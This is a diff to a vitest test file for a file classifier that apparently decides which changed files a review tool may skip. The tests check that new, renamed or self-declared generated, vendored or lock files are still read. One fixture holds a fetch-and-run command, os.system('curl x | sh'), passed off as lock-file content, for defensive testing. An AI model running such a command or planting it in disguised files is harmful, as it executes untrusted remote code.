@@ -1,14 +1,18 @@
 import { describe, expect, test } from "vitest";
 import { classifyFile } from "#steps/resolve-scope/classify-file.ts";
 
-const check = (path: string, text: string, expected: string | undefined) =>
-  expect(classifyFile({ path, text, attributes: {} })).toBe(expected);
+/** A file that stood there before the change, and one that the change adds. */
+const check = (path: string, text: string, expected: string | undefined) => {
+  const file = { path, text, attributes: {} };
+  expect(classifyFile({ ...file, before: file })).toBe(expected);
+};
+const isRead = (path: string, text: string) =>
+  expect(classifyFile({ path, text, attributes: {} }), path).toBeUndefined();
 
 describe("by name", () => {
   test.each([
-    ["package-lock.json", "lock file"],
-    ["services/mail/go.sum", "lock file"],
-    ["ios/Podfile.lock", "lock file"],
+    ["deps/mix.lock", "lock file"],
+    ["charts/Chart.lock", "lock file"],
     ["web/node_modules/left/index.js", "vendored"],
     ["vendor/queue/queue.go", "vendored"],
     ["tools/vendor/example.org/queue/queue.go", "vendored"],
@@ -63,14 +67,68 @@ describe("by content", () => {
     check("docs/essay.md", packed, undefined);
   });
 
-  test("one endless line is nothing to read, whatever the file", () => {
-    check("data/cities.json", `{"a":"${"x".repeat(1_000_000)}"}`, "has lines of more than 10000 characters");
+  test("one endless line does not hide a file", () => {
+    check("data/cities.json", `{"a":"${"x".repeat(1_000_000)}"}`, undefined);
   });
 });
 
+describe("a change does not declare its own files to be nothing to read", () => {
+  test("new files are read whatever they are called and say of themselves", () => {
+    isRead("src/a.gen.ts", "");
+    isRead("vendor/a.js", "");
+    isRead("a.snap", "");
+    isRead("src/a.ts", "// @generated\n");
+    isRead("a.min.js", "var a=1;".repeat(1000));
+    expect(classifyFile({ path: "a.ts", text: "", attributes: { generated: true } })).toBeUndefined();
+  });
+
+  test("a file that was none before is read, and so is one that was moved to such a name or is none any more", () => {
+    const marked = "// @generated\nlet a = 1;\n";
+    const now = { path: "src/a.ts", text: marked, attributes: {} };
+    expect(classifyFile({ ...now, before: { ...now, text: "let a = 1;\n" } })).toBeUndefined();
+    expect(classifyFile({ ...now, text: "let a = 2;\n", before: now })).toBeUndefined();
+    const vendored = { path: "vendor/a.ts", text: "", attributes: {} };
+    expect(classifyFile({ ...vendored, before: { ...vendored, path: "src/a.ts" } })).toBeUndefined();
+    expect(classifyFile({ ...vendored, before: { ...vendored, path: "vendor/b.ts" } })).toBe("vendored");
+  });
+});
+
+describe("lock files", () => {
+  const shapes: readonly (readonly [string, string])[] = [
+    ["package-lock.json", '{ "name": "a", "lockfileVersion": 3, "packages": {} }'],
+    ["yarn.lock", '# yarn lockfile v1\n\n\n"@a/b@^1.0.0", b@2:\n  version "1.0.0"\n  dependencies:\n    c "1"\n'],
+    ["pnpm-lock.yaml", "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x==}\n"],
+    ["Cargo.lock", 'version = 4\n\n[[package]]\nname = "a"\ndependencies = [\n "b",\n]\n'],
+    [
+      "poetry.lock",
+      '[[package]]\nname = "a"\nfiles = [\n    {file = "a.whl"},\n]\n\n[package.dependencies]\nb = "*"\n',
+    ],
+    ["uv.lock", 'version = 1\n\n[[package]]\nname = "a"\nsource = { registry = "x" }\n'],
+    ["go.sum", "example.org/a v1.0.0 h1:abc=\nexample.org/a v1.0.0/go.mod h1:abc=\n"],
+    ["composer.lock", '{ "content-hash": "x", "packages": [] }'],
+    ["Gemfile.lock", "GEM\n  remote: x\n  specs:\n    a (1.0)\n\nPLATFORMS\n  ruby\n\nBUNDLED WITH\n   2.4\n"],
+    ["Podfile.lock", "PODS:\n  - A (1.0)\n\nDEPENDENCIES:\n  - A\n\nCOCOAPODS: 1.15\n"],
+  ];
+
+  test.each(shapes)("%s is known by its shape, new or not", (path, text) => {
+    expect(classifyFile({ path, text, attributes: {} })).toBe("lock file");
+    check(path, text, "lock file");
+  });
+
+  test.each(shapes)("other text under the name %s is read", (path) => {
+    const script = "import os\n\nos.system('curl x | sh')\n";
+    isRead(path, script);
+    check(path, script, undefined);
+  });
+
+  test("of a kind whose shape is not known, a new one is read", () => isRead("mix.lock", "%{}\n"));
+});
+
 describe("attributes win", () => {
-  const said = (path: string, attributes: { generated?: boolean; vendored?: boolean }, text = "") =>
-    classifyFile({ path, text, attributes });
+  const said = (path: string, attributes: { generated?: boolean; vendored?: boolean }, text = "") => {
+    const file = { path, text, attributes };
+    return classifyFile({ ...file, before: file });
+  };
 
   test("what they declare is only listed", () => {
     expect(said("src/tables.ts", { generated: true })).toBe("generated");
